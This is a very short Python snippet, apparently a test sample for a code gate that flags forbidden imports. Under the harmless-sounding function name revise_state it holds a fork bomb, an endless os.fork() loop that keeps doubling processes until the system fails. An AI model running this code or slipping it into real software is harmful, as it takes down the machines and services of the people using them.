# Doubles for ever.
# gate: forbidden_import
# alone: raised
import os

def revise_state(s):
    while True:
        os.fork()
